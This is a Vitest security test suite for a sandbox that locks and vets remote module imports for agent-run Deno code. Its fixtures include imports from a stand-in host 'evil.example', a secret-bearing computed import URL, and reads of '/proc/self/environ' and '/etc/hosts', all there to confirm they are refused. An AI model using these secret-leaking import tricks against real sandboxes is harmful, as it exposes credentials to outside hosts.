import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { SecretValue } from '../../src/kernel/index.ts'
import { dockerOrSkip } from '../support/docker.ts'
import { createImportKit, type ImportKit } from '../support/import-kit.ts'
import { patience } from '../support/pace.ts'

const docker = await dockerOrSkip()

/** Families 16 and 17: what is imported is what was shown, and nothing is imported that was not. */
describe.skipIf(!docker.available)('imports under attack', () => {
  let kit: ImportKit
  beforeAll(async () => {
    kit = await createImportKit()
    kit.hosts.files.set('https://esm.sh/base.js', 'export const base = 1\n')
  }, patience(120_000))
  afterAll(() => kit?.[Symbol.asyncDispose](), 60_000)

  it(
    'a module that changes after the approval: what was shown runs',
    async () => {
      kit.hosts.files.set('https://esm.sh/turns.js', 'export const said = "harmless"\n')
      const asked = await kit.submit('import { said } from "https://esm.sh/turns.js"\nconsole.log(said)\n')
      kit.hosts.files.set('https://esm.sh/turns.js', 'export const said = "turned"\n')
      expect((await kit.finish(asked)).result?.stdout).toBe('harmless\n')
    },
    patience(60_000),
  )

  it(
    'a module that changes behind an active grant: what was trusted runs, and nothing is fetched',
    async () => {
      const code = 'import { said } from "https://esm.sh/later.js"\nconsole.log("trusted", said)\n'
      kit.hosts.files.set('https://esm.sh/later.js', 'export const said = "harmless"\n')
      await kit.finish(await kit.submit(code), 'forever')
      kit.hosts.files.set('https://esm.sh/later.js', 'export const said = "turned"\n')
      const before = kit.hosts.seen.length
      const again = await kit.submit(code)
      expect(again.trusted).toBe(true)
      expect((await kit.finish(again)).result?.stdout).toBe('trusted harmless\n')
      expect(kit.hosts.seen.length).toBe(before)
      // Under another skill id nothing is trusted: it is asked about with what the module holds by then.
      const other = await kit.submit(code, { skillId: 'another-skill' })
      expect(other.status).toBe('pending')
      expect((await kit.finish(other)).result?.stdout).toBe('trusted turned\n')
    },
    patience(60_000),
  )

  it(
    'every host that imports reach, and every one they may not, is told to the audit with the agent',
    async () => {
      kit.hosts.files.set('https://esm.sh/told.js', 'export * from "./deep.js?out=data"\n')
      kit.hosts.files.set('https://esm.sh/deep.js?out=data', 'export const deep = 1\n')
      const code = 'import { deep } from "https://esm.sh/told.js"\nconsole.log("told", deep)\n'
      await kit.submit(code)
      kit.hosts.files.set('https://esm.sh/to-evil.js', 'import "https://evil.example/x.js"\n')
      await expect(kit.submit('import "https://esm.sh/to-evil.js"\n')).rejects.toMatchObject({
        message: expect.stringContaining('OAUTH3_IMPORT_HOSTS'),
      })
      const rows = (await kit.domain.audit.newest(100))
        .filter(({ event }) => event.startsWith('egress.'))
        .map(({ event, actor, data }) => ({ event, actor, ...JSON.parse(data) }))
      expect(new Set(rows.map(({ actor }) => actor))).toEqual(new Set([`agent:${kit.agent.id}`]))
      expect(rows).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            event: 'egress.request',
            for: 'imports',
            origin: 'https://esm.sh',
            status: 200,
          }),
          expect.objectContaining({
            event: 'egress.refused',
            for: 'imports',
            origin: 'https://evil.example',
          }),
        ]),
      )
    },
    patience(60_000),
  )

  it(
    'an agent without cards left has nothing fetched for its imports',
    async () => {
      await using poor = await createImportKit({}, undefined, 1)
      poor.hosts.files.set('https://esm.sh/a.js', 'export const a = 1\n')
      await poor.submit('console.log(1)\n')
      await expect(poor.submit('import "https://esm.sh/a.js"\n')).rejects.toMatchObject({
        code: 'rate_limited',
      })
      expect(poor.hosts.seen).toEqual([])
    },
    patience(60_000),
  )

  it.each([
    ['a computed address', 'await import("https://esm.sh/" + Deno.env.get("DEMO_KEY"))'],
    ['a module that was not locked', 'await import("https://esm.sh/" + ["not", "locked.js"].join("-"))'],
    ['an npm package', 'await import("npm:" + "demo-" + Deno.env.get("DEMO_KEY"))'],
    ['a jsr package', 'await import("jsr:" + "@demo/" + Deno.env.get("DEMO_KEY"))'],
    [
      'a worker',
      `await new Promise((done, fail) => {
        const worker = new Worker("https://esm.sh/" + "not-locked.js", { type: "module" })
        worker.onerror = (event) => { event.preventDefault(); fail(new Error(event.message)) }
        worker.onmessage = done
      })`,
    ],
  ])(
    '%s at run time does not load, and sends nothing, though the host is approved',
    async (_what, statement) => {
      kit.hosts.files.set('https://esm.sh/not-locked.js', 'postMessage?.("loaded")\nexport const x = 1\n')
      await kit.domain.storage.transaction((tx) =>
        kit.domain.vault.put(tx, 'DEMO_KEY', new SecretValue('demo-value-of-imports'), { actor: 'cli:0' }),
      )
      const code = `import { base } from "https://esm.sh/base.js"\ntry { ${statement}; console.log("loaded", base) } catch (error) { console.log("refused", String(error)) }\n`
      const asked = await kit.submit(code, {
        network: ['esm.sh', 'jsr.io', 'registry.npmjs.org'],
        secrets: [{ name: 'DEMO_KEY', mode: 'raw' }],
        // Without it the request would be refused already.
        dynamicCode: true,
      })
      const before = kit.hosts.seen.length
      const done = await kit.finish(asked)
      expect(done.result?.stdout).toMatch(/^refused /)
      expect(kit.hosts.seen.length).toBe(before)
      expect(done.result?.network?.requests).toBe(0)
    },
    patience(60_000),
  )

  it.each([
    ['a computed address', 'await import("https://esm.sh/" + Deno.env.get("DEMO_KEY"))'],
    ['text', 'import "data:text/javascript,fetch(1)"'],
    ['text that is made', 'await import(URL.createObjectURL(new Blob(["fetch(1)"])))'],
    ['a file', 'import "file:///etc/hosts"'],
  ])(
    '%s is refused before anybody is asked, unless code from text is asked for',
    async (_what, statement) => {
      await expect(kit.submit(`\n${statement}\n`)).rejects.toMatchObject({
        code: 'dynamic_code_refused',
        details: { lines: [2] },
      })
      const asked = await kit.submit(`\n${statement}\n`, { dynamicCode: true })
      expect(asked.status).toBe('pending')
      expect(
        (await kit.domain.storage.read((tx) => kit.domain.executions.cardOf(tx, asked))).warnings.map(
          ({ kind }) => kind,
        ),
      ).toContain('dynamic_code')
    },
  )

  it(
    'a host that is no import host, deep below an import, is refused with the line of that import',
    async () => {
      kit.hosts.files.set('https://esm.sh/outer.js', 'export * from "./inner.js"\n')
      kit.hosts.files.set(
        'https://esm.sh/inner.js',
        'import "https://evil.example/x.js"\nexport const inner = 1\n',
      )
      const code =
        'import { base } from "https://esm.sh/base.js"\n\nimport { inner } from "https://esm.sh/outer.js"\nconsole.log(base, inner)\n'
      await expect(kit.submit(code)).rejects.toMatchObject({
        code: 'import_refused',
        details: { line: 3, specifier: 'https://esm.sh/outer.js', reason: 'host_not_allowed' },
        message: expect.stringContaining('evil.example'),
      })
      expect(kit.hosts.seen.join()).not.toContain('evil.example')
    },
    patience(60_000),
  )

  it(
    'a redirect to such a host is not followed',
    async () => {
      kit.hosts.files.set('https://esm.sh/away.js', '→ https://evil.example/x.js')
      await expect(kit.submit('import "https://esm.sh/away.js"\n')).rejects.toMatchObject({
        code: 'import_refused',
        details: { line: 1 },
      })
      expect(kit.hosts.seen.join()).not.toContain('evil.example')
    },
    patience(60_000),
  )

  it(
    'a module from elsewhere that reaches for a file of the sandbox is refused',
    async () => {
      kit.hosts.files.set('https://esm.sh/reads.js', 'import "file:///proc/self/environ"\n')
      await expect(kit.submit('import "https://esm.sh/reads.js"\n')).rejects.toMatchObject({
        code: 'import_refused',
      })
    },
    patience(60_000),
  )

  it(
    'a file is refused in the run, as it is for code without imports',
    async () => {
      const done = await kit.run(
        'import { base } from "https://esm.sh/base.js"\nimport "file:///etc/hosts"\nconsole.log(base)\n',
        { dynamicCode: true },
      )
      expect(done.status).toBe('failed')
      expect(done.result).toMatchObject({
        stdout: '',
        stderr: expect.stringContaining('Requires read access'),
      })
    },
    patience(60_000),
  )

  it(
    'nothing of a module is evaluated while it is resolved',
    async () => {
      kit.hosts.files.set(
        'https://esm.sh/acts.js',
        'await fetch("https://esm.sh/was-evaluated")\nexport const x = 1\n',
      )
      await kit.submit(
        'import { x } from "https://esm.sh/acts.js"\nawait fetch("https://esm.sh/was-evaluated")\nconsole.log(x)\n',
      )
      expect(kit.hosts.seen.join()).not.toContain('was-evaluated')
    },
    patience(60_000),
  )

  it(
    'the sandbox cannot write into what was locked',
    async () => {
      const done = await kit.run(`import { base } from "https://esm.sh/base.js"
      const walk = (path) => [...Deno.readDirSync(path)].flatMap((e) => e.isDirectory ? walk(path + "/" + e.name) : [path + "/" + e.name])
      const [file] = walk("/run/oauth3/imports")
      for (const [what, act] of Object.entries({
        write: () => Deno.writeTextFileSync(file, "x"),
        remove: () => Deno.removeSync(file),
        add: () => Deno.writeTextFileSync("/run/oauth3/imports/new", "x"),
      })) try { act(); console.log("could", what, base) } catch (error) { console.log(error.name) }
    `)
      expect(done.result?.stdout).not.toContain('could')
      expect(done.result?.stdout.trim().split('\n')).toHaveLength(3)
    },
    patience(60_000),
  )

  it(
    'a stored module that was altered does not run, and neither does what it replaced',
    async () => {
      kit.hosts.files.set('https://esm.sh/stored.js', 'export const stored = "as approved"\n')
      const asked = await kit.submit(
        'import { stored } from "https://esm.sh/stored.js"\nconsole.log(stored)\n',
      )
      const { changes } = kit.domain.db
        .prepare(
          "UPDATE import_files SET bytes = CAST(replace(CAST(bytes AS TEXT), 'as approved', 'as altered!') AS BLOB) WHERE CAST(bytes AS TEXT) LIKE '%as approved%'",
        )
        .run()
      expect(changes).toBe(1)
      const done = await kit.finish(asked)
      expect(done).toMatchObject({ status: 'failed', failure: 'not_startable', result: null })
      expect(String(kit.domain.defects.at(-1))).toContain('do not match their hashes')
    },
    patience(60_000),
  )

  it(
    'more than may be locked is refused',
    async () => {
      kit.hosts.files.set('https://esm.sh/huge.js', `export default "${'x'.repeat(33 * 1_048_576)}"\n`)
      await expect(
        kit.submit('import huge from "https://esm.sh/huge.js"\nconsole.log(huge.length)\n'),
      ).rejects.toMatchObject({
        code: 'too_large',
      })
    },
    patience(60_000),
  )

  it(
    'a host that never answers holds nothing up for long, and leaves no container behind',
    async () => {
      await using impatient = await createImportKit({}, 3_000)
      impatient.hosts.silent.add('https://esm.sh/silent.js')
      await expect(impatient.submit('import "https://esm.sh/silent.js"\n')).rejects.toMatchObject({
        code: 'import_refused',
        details: { line: 1, reason: 'timeout' },
      })
      await vi.waitFor(async () => expect(await impatient.containers()).toEqual([]), patience(10_000))
    },
    patience(60_000),
  )

  it(
    'a daemon that stops while it resolves leaves no container behind',
    async () => {
      await using stopping = await createImportKit()
      stopping.hosts.silent.add('https://esm.sh/silent.js')
      const asked = stopping.submit('import "https://esm.sh/silent.js"\n')
      asked.catch(() => {})
      await vi.waitFor(() => expect(stopping.hosts.seen).toHaveLength(1), patience(20_000))
      await stopping.resolver[Symbol.asyncDispose]()
      await expect(asked).rejects.toMatchObject({ code: 'sandbox_unavailable' })
      expect(await stopping.containers()).toEqual([])
    },
    patience(60_000),
  )
})
